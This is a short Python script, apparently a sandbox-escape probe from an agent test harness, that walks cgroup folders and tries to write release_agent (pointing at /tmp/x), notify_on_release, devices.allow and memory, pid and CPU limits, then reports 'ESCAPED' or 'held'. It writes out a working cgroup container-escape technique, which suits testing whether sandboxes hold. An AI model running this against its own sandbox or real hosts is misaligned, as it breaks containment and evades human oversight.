"""Widens its own limits or plants a release agent through the control group files it can see.

kind: escape
seconds: 10
"""

import os

names = (
    "release_agent",
    "notify_on_release",
    "cgroup.procs",
    "tasks",
    "memory.limit_in_bytes",
    "memory.max",
    "pids.max",
    "cpu.max",
    "devices.allow",
)
done = []
for top in ("/sys/fs/cgroup", "/agentrl", "/proc/1/root/sys/fs/cgroup"):
    for folder, folders, files in os.walk(top):
        for name in files:
            if name in names or name == "memory":
                try:
                    with open(f"{folder}/{name}", "w") as file:
                        file.write("/tmp/x" if name == "release_agent" else "1")
                    done.append(f"{folder}/{name}")
                except OSError:
                    continue
        try:
            os.mkdir(folder + "/agentrl-attack")
            done.append(f"a group in {folder}")
        except OSError:
            continue
print(f"ESCAPED: wrote {', '.join(done)}" if done else "held: no control group can be written")
